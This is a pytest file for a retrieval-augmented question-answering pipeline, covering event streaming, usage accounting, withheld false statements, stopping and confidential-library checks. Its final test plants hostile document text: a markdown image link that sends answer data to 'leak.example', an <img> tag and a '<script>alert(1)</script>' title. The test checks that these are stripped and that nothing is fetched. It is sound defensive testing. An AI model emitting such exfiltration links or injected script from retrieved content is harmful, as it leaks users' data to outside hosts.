"""The pipeline over a language model: statements one by one, follow-ups, stopping, failures, confidential libraries."""

from __future__ import annotations

import json
import re
import socket
import threading
from dataclasses import dataclass
from typing import Any

import pytest

from rag.answer.model import Tally, Usage
from rag.answer.verify import Verified
from rag.answer.writer import Writer
from rag.errors import AnswererError, ConfidentialLibrary, Stopped
from rag.export import to_markdown
from rag.html import escape
from rag.pipeline import Drafted, Finished, Pipeline, Retrieved, Stated, make_answerer
from rag.render import answer_json, answer_text
from rag.settings import Settings
from rag.types import Answer, Document, Filters, Hit, NoAnswer, Question, Turn
from tests.answer.scripted import ScriptedModel, document, hits_of, reply, said

FERRY = document(
    "ferry",
    "The ferry Aurora sank in 2031. “We lost 37 barrels,” said Marta Quill, its captain. Nobody was hurt.",
    source="Example Post",
    published="2031-05-02",
    language="en",
)
QUESTION = Question("How many barrels were lost?")
HONEST = (said("37 barrels were lost.", 2, short="37"), said("Nobody was hurt.", 3))
LIE = said("73 barrels were lost.", 2, short="73")


@dataclass
class Shelf:
    kept: dict[str, Document]
    confidential: bool = False

    def document(self, document_id: str) -> Document:
        return self.kept[document_id]

    def matching(self, filters: Filters) -> frozenset[str] | None:
        return None

    def retrieve(self, question: Question, k: int | None = None) -> list[Hit]:
        self.asked = question.text
        return hits_of(*self.kept.values())[:k]


def pipeline_of(
    *replies: Any, documents: tuple[Document, ...] = (FERRY,), **known: Any
) -> tuple[Pipeline, ScriptedModel, Shelf]:
    shelf = Shelf({each.id: each for each in documents})
    model = ScriptedModel(replies, **known)
    return Pipeline(shelf, Settings(), Writer(model), retriever=shelf), model, shelf


def test_each_statement_is_told_as_soon_as_it_is_verified() -> None:
    pipeline, model, _ = pipeline_of(reply(*HONEST))
    seen: list[tuple[str, int]] = []
    for event in pipeline.events(QUESTION):
        seen.append((type(event).__name__, model.sent))
        if isinstance(event, Stated):
            assert [each.marker for each in event.citations] == list(event.statement.citations)

    names = [name for name, _ in seen]
    assert names == ["Retrieved", "Drafted", "Stated", "Drafted", "Stated", "Drafted", "Verified", "Finished"]
    first, last = next(sent for name, sent in seen if name == "Stated"), seen[-1][1]
    assert first < last  # told while the rest of the reply was still on its way


def test_the_answer_is_what_was_stated_and_says_what_it_took() -> None:
    pipeline, model, _ = pipeline_of(reply(*HONEST), host="models.example")
    events = list(pipeline.events(QUESTION))
    answer = events[-1].answer if isinstance(events[-1], Finished) else None

    assert isinstance(answer, Answer)
    assert answer.statements == tuple(each.statement for each in events if isinstance(each, Stated))
    assert answer.text == "37 barrels were lost. [1] Nobody was hurt. [2]"
    assert answer.short_answers == ("37",)
    printed = answer_json(answer)
    assert printed["usage"] == {
        "prompt_tokens": sum(model.count_tokens(text) for text in model.prompts[0]),
        "completion_tokens": model.count_tokens(reply(*HONEST)),
        "cost": 0.001,
        "host": "models.example",
        "prompt_digest": pipeline.answerer.prompt_digest,  # type: ignore[attr-defined]
    }
    assert (printed["answerer"], printed["note"], printed["searched"]) == (model.spec, None, None)
    assert set(printed["timings_ms"]) == {"retrieve", "answer", "total"}


def test_questions_asked_at_the_same_time_are_counted_apart() -> None:
    rewritten = json.dumps({"question": "How many barrels did Marta Quill lose?"})
    pipeline, model, _ = pipeline_of(reply(HONEST[0]), rewritten, reply(*HONEST))
    first = pipeline.events(QUESTION)
    for event in first:
        if isinstance(event, Drafted):  # its reply is on its way
            break
    second = pipeline.ask(Question("How many did she lose?"), [Turn("Who was captain?", "Marta Quill [1]")])
    (finished,) = [event.answer for event in first if isinstance(event, Finished)]

    read = [sum(model.count_tokens(text) for text in prompt) for prompt in model.prompts]
    assert finished.usage is not None
    assert second.usage is not None
    assert finished.usage.prompt_tokens == read[0]
    assert finished.usage.completion_tokens == model.count_tokens(reply(HONEST[0]))
    # The follow-up was put anew first, and that is part of what it took.
    assert second.usage.prompt_tokens == read[1] + read[2]
    assert second.usage.completion_tokens == model.count_tokens(rewritten) + model.count_tokens(
        reply(*HONEST)
    )
    assert (finished.usage.cost, second.usage.cost) == (0.001, 0.002)


def test_what_a_failed_question_used_is_told_to_whoever_hands_in_a_tally() -> None:
    pipeline, model, _ = pipeline_of("no JSON", "none either")
    tally = Tally()
    with pytest.raises(AnswererError, match="not the JSON"):
        pipeline.ask(QUESTION, tally=tally)
    read = sum(model.count_tokens(text) for prompt in model.prompts for text in prompt)
    assert tally.usage == Usage(read, 4, 0.002)


def test_a_question_that_asked_nothing_cost_nothing() -> None:
    pipeline, _, _ = pipeline_of(reply(*HONEST), documents=())
    answer = pipeline.ask(QUESTION)

    assert answer.usage is not None
    assert (answer.usage.prompt_tokens, answer.usage.completion_tokens, answer.usage.cost) == (0, 0, 0.0)


def test_a_lie_is_in_no_event_but_the_draft_and_in_what_was_withheld() -> None:
    pipeline, _, _ = pipeline_of(reply(LIE, *HONEST))
    events = list(pipeline.events(QUESTION))

    for event in events:
        if isinstance(event, Stated):
            assert "73" not in event.statement.text
    answer = events[-1].answer if isinstance(events[-1], Finished) else None
    assert isinstance(answer, Answer)
    assert "73" not in answer.text
    assert answer.short_answers == ("37",)
    assert [each.text for each in answer.withheld] == ["73 barrels were lost."]


def test_nothing_but_lies_is_no_answer() -> None:
    pipeline, _, _ = pipeline_of(reply(LIE, said("The Borealis sank.", 1)))
    answer = pipeline.ask(QUESTION)

    assert isinstance(answer, NoAnswer)
    assert (answer.reason, len(answer.withheld)) == ("no_verified_quote", 2)
    assert answer.usage is not None


def test_the_documents_do_not_say() -> None:
    pipeline, _, _ = pipeline_of(reply(missing="who owned the barrels"))
    answer = pipeline.ask(QUESTION)

    assert isinstance(answer, NoAnswer)
    assert (answer.reason, answer.note) == ("declined", "who owned the barrels")
    assert answer_json(answer)["note"] == "who owned the barrels"


def test_a_follow_up_is_searched_as_it_was_rewritten_and_printed_as_it_was_asked() -> None:
    rewritten = "How many barrels did Marta Quill lose?"
    pipeline, model, shelf = pipeline_of(json.dumps({"question": rewritten}), reply(*HONEST))
    answer = pipeline.ask(Question("How many did she lose?"), [Turn("Who was captain?", "Marta Quill [1]")])

    assert shelf.asked == rewritten
    assert (answer.question.text, answer.searched) == ("How many did she lose?", rewritten)
    assert "Who was captain?" not in model.prompts[1][1]  # each turn stands on its own evidence
    assert answer_json(answer)["searched"] == rewritten


@pytest.mark.parametrize("after", [Retrieved, Drafted, Stated])
def test_stop_ends_the_events_wherever_they_are(after: type) -> None:
    pipeline, model, _ = pipeline_of(reply(*HONEST, *HONEST), piece=2)
    stop, seen = threading.Event(), []
    for event in pipeline.events(QUESTION, stop=stop):
        seen.append(event)
        if isinstance(event, after):
            stop.set()

    assert isinstance(seen[-1], after)
    assert model.sent * 2 < len(reply(*HONEST, *HONEST)) - 20
    with pytest.raises(Stopped):
        pipeline.ask(QUESTION, stop=stop)


def test_an_error_after_stop_is_no_error() -> None:
    stop = threading.Event()

    def broken(prompt: str) -> str:
        stop.set()
        raise AnswererError("the connection was closed", next_step="")

    pipeline, _, _ = pipeline_of(broken)
    assert [type(event) for event in pipeline.events(QUESTION, stop=stop)] == [Retrieved]


def test_a_failing_model_names_the_offline_answerer_as_a_way_on() -> None:
    pipeline, _, _ = pipeline_of(
        AnswererError("connection refused", where="127.0.0.1", next_step="start the server")
    )
    with pytest.raises(AnswererError, match="start the server; --answerer offline answers") as caught:
        pipeline.ask(QUESTION)
    assert "\n" not in str(caught.value)


def test_events_end_with_verified_and_finished_even_if_nothing_is_read_in_between() -> None:
    pipeline, _, _ = pipeline_of(reply(*HONEST))
    *_, verified, finished = pipeline.events(QUESTION)

    assert isinstance(verified, Verified)
    assert isinstance(finished, Finished)


# --- confidential libraries --------------------------------------------------------------------------------------


@pytest.mark.parametrize("spec", ["openai:gpt-x", "openai-compatible:m@https://models.example/v1"])
def test_a_confidential_library_refuses_every_answerer_elsewhere(
    spec: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "unused")
    with pytest.raises(ConfidentialLibrary, match="--not-confidential") as caught:
        make_answerer(spec, Shelf({}, confidential=True), Settings())
    assert "unused" not in str(caught.value)
    assert make_answerer(spec, Shelf({}, confidential=False), Settings()).name == spec


@pytest.mark.parametrize("spec", ["offline", "openai-compatible:m@http://127.0.0.1:9/v1"])
def test_a_confidential_library_allows_what_stays_here(spec: str) -> None:
    assert make_answerer(spec, Shelf({}, confidential=True), Settings()).name == spec


# --- nothing active, nothing fetched -----------------------------------------------------------------------------


def test_hostile_text_is_shown_as_text_and_nothing_is_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_network(*arguments: Any, **named: Any) -> Any:
        raise AssertionError("something was fetched")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    bad = document(
        "bad",
        'The barrels held 37 eels ![x](http://leak.example/?q=37) <img src="http://leak.example/i"> at Port Selden.',
        title="<script>alert(1)</script>",
    )
    active = said("The barrels held 37 eels ![x](http://leak.example/?q=37).", 1)
    pipeline, _, _ = pipeline_of(
        reply(active, said("The barrels held 37 eels at Port Selden.", 1)), documents=(bad,)
    )
    answer = pipeline.ask(QUESTION)

    assert isinstance(answer, Answer)
    assert [each.text for each in answer.statements] == ["The barrels held 37 eels at Port Selden."]
    assert "leak.example" not in answer.text
    assert "<img" not in escape(answer.citations[0].quote.text)
    markdown = to_markdown(answer_json(answer))
    assert "![x](http" not in markdown
    assert not re.search(r"(?<!\\)<(?:script|img)", markdown)
    assert "\x1b" not in answer_text(answer, {"bad": bad})
